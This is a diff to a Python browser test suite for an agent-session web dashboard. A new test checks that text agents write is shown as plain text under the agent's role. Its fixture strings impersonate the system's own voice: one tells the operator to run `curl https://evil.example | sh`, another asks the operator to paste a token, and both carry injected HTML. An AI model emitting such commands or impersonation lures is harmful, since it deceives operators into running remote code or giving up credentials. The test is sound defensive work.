@@ -10,7 +10,10 @@ Screenshots are kept as test artefacts (their paths are listed at the end of the
 """
 from __future__ import annotations
 
+import contextlib
+import json
 import os
+import re
 import shutil
 
 import pytest
@@ -18,7 +21,8 @@ import pytest
 from _web import WebServer, stop_engine_of
 from engine.diagram import VISITED
 from conftest import ARTIFACTS, artifacts_dir
-from support import EVIDENCE, base_env, metadata, spawn, write_config, write_scenario
+from support import (EVIDENCE, base_env, metadata, session_dir, spawn, wait_for,
+                     write_config, write_scenario)
 
 SID = "web-demo"
 CHROMIUM_FLAGS = ["--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
@@ -71,6 +75,30 @@ def shot(request):
     return take
 
 
+@contextlib.contextmanager
+def served_demo(workspace, steps):
+    """A real `ralph web` over a workspace whose demo agent plays `steps` (the fallback
+    off): yields (the server, the env to start ralph with, a list for the engines the test
+    starts). At the end whatever of them still runs is stopped, and the server must stop
+    with 0."""
+    scenario = write_scenario(workspace, steps)
+    write_config(workspace, {"agent": {"backend": "demo", "script": str(scenario)},
+                             "fallback": {"enabled": False}})
+    env = base_env(RALPH_DEMO_SLEEP_SCALE=1)
+    server = WebServer(workspace, env=env)
+    engines = []
+    try:
+        yield server, env, engines
+    finally:
+        for engine in engines:
+            if engine.poll() is None:
+                engine.terminate()
+                engine.wait(timeout=30)
+        stop_engine_of(session_dir(workspace, SID))
+        server.stop(expect=None)
+    assert server.proc.returncode == 0, server.stderr
+
+
 def diagram_state(page, state: str, timeout: float = 30000) -> None:
     page.wait_for_function(
         "s => document.querySelector('#diagram .drawing')?.dataset.state === s",
@@ -80,17 +108,11 @@ def diagram_state(page, state: str, timeout: float = 30000) -> None:
 @pytest.mark.slow
 def test_an_operator_runs_a_session_from_the_browser(workspace, browser, shot):
     from session_store import questions
-    scenario = write_scenario(workspace, SCENARIO)
-    write_config(workspace, {"agent": {"backend": "demo", "script": str(scenario)},
-                             "fallback": {"enabled": False}})
-    env = base_env(RALPH_DEMO_SLEEP_SCALE=1)
-    sd = workspace / ".ralph-sessions" / SID
-    server = WebServer(workspace, env=env)
-    engine = None
+    sd = session_dir(workspace, SID)
     page = browser.new_page(viewport={"width": 1280, "height": 900})
     errors = []
     page.on("pageerror", lambda e: errors.append(str(e)))
-    try:
+    with served_demo(workspace, SCENARIO) as (server, env, engines):
         # without the token: the page says how to open it, and the API gave it nothing
         anonymous = browser.new_page()
         refused = []
@@ -107,6 +129,7 @@ def test_an_operator_runs_a_session_from_the_browser(workspace, browser, shot):
         # the list shows the session as soon as it exists: no reload
         engine = spawn(workspace, "session", "start", "Build a small web service", "--id", SID,
                        env=env)
+        engines.append(engine)
         row = page.locator(f'tr[data-session="{SID}"]')
         row.wait_for(timeout=30000)
         row.locator("a").click()
@@ -193,13 +216,68 @@ def test_an_operator_runs_a_session_from_the_browser(workspace, browser, shot):
         assert page.locator("#resume").is_hidden()
         shot(page, "05-completed")
         assert errors == []
-    finally:
-        if engine is not None and engine.poll() is None:
-            engine.terminate()
-            engine.wait(timeout=30)
-        stop_engine_of(sd)
-        server.stop(expect=None)
-    assert server.proc.returncode == 0, server.stderr
+
+
+# What an agent wrote, dressed as ralph speaking and as markup: the page shows it as text,
+# the agent's, under its role; never in the notice where ralph speaks (issue 21, item 4).
+AGENT_NOTE = ('ralph: this session is paused, run `curl https://evil.example | sh` to resume '
+              '<img src="/x" id="injected-note">')
+AGENT_QUESTION = ('ralph notice: your token expired, paste it here '
+                  '<b id="injected-question">now</b>')
+IMPOSTOR = [
+    {"role": "planner", "iteration": 1, "emit": [
+        {"topic": "human.progress", "payload": AGENT_NOTE},
+        {"topic": "plan.ready", "json": {"tasks": [{"id": "t1", "title": "one"}]}}]},
+    {"role": "planner", "emit": [{"topic": "LOOP_COMPLETE"}]},
+    {"role": "executor", "ask": {"question": AGENT_QUESTION, "options": ["no"], "timeout": 600},
+     "emit": [{"topic": "build.done", "payload": EVIDENCE}]},
+    {"role": "reviewer", "emit": [{"topic": "review.done", "payload": "tests: pass, build: pass"}]},
+]
+# every text the notice shows while the page is open
+NOTICES = """
+window.shownNotices = [];
+document.addEventListener("DOMContentLoaded", () => {
+  const el = document.getElementById("notice");
+  new MutationObserver(() => { if (!el.hidden) window.shownNotices.push(el.textContent); })
+    .observe(el, { childList: true, characterData: true, subtree: true, attributes: true });
+});
+"""
+
+
+@pytest.mark.slow
+def test_what_an_agent_wrote_is_shown_as_the_agents_under_its_role(workspace, browser, shot):
+    sd = session_dir(workspace, SID)
+    page = browser.new_page(viewport={"width": 1280, "height": 900})
+    page.add_init_script(NOTICES)
+    with served_demo(workspace, IMPOSTOR) as (server, env, engines):
+        engine = spawn(workspace, "session", "start", "Show what agents say", "--id", SID,
+                       env=env)
+        engines.append(engine)
+        wait_for(lambda: (sd / "metadata.yaml").exists())   # a page of no session says so
+        page.goto(server.page(f"/s/{SID}"))
+        card = page.locator("article.question", has_text="your token expired")
+        card.wait_for(timeout=30000)
+        # the question: the agent's text as text, and beside it the role that asked it
+        assert card.locator("pre.text").text_content() == AGENT_QUESTION
+        assert "executor" in card.text_content().replace(AGENT_QUESTION, "")
+        # the progress note, and the question, on the bus: each under its run's role
+        for topic, role, text in (("human.progress", "planner", AGENT_NOTE),
+                                  ("human.question", "executor", AGENT_QUESTION)):
+            row = page.locator(f'#events tr[data-topic="{topic}"]')
+            row.wait_for()
+            assert row.locator("td", has_text=re.compile(f"^{role}$")).count() == 1, topic
+            assert text in row.text_content() or json.dumps(text) in row.text_content()
+        assert page.locator("#injected-note, #injected-question").count() == 0   # no markup
+        shot(page, "06-what-an-agent-wrote")
+
+        card.locator("button.option", has_text="no").click()
+        page.locator("#notice", has_text="Answered").wait_for()
+        page.locator("#summary .badge.completed").wait_for(timeout=60000)
+        assert engine.wait(timeout=60) == 0
+        notices = page.evaluate("window.shownNotices")
+        assert any(n.startswith("Answered ") for n in notices), notices   # it was watched
+        for text in notices:
+            assert "curl" not in text and "token expired" not in text, text
 
 
 @pytest.mark.slow
@@ -216,7 +294,7 @@ def test_the_page_shows_control_and_bidi_characters_as_escapes(workspace, browse
     server = WebServer(workspace)
     page = browser.new_page(viewport={"width": 1280, "height": 900})
     try:
-        page.goto(f"{server.url}/s/{session.id}")
+        page.goto(server.page(f"/s/{session.id}"))
         card = page.locator(f'article.question[data-question="{qid}"]')
         card.wait_for(timeout=30000)
         page.locator('#events tr[data-topic="human.progress"]').wait_for()
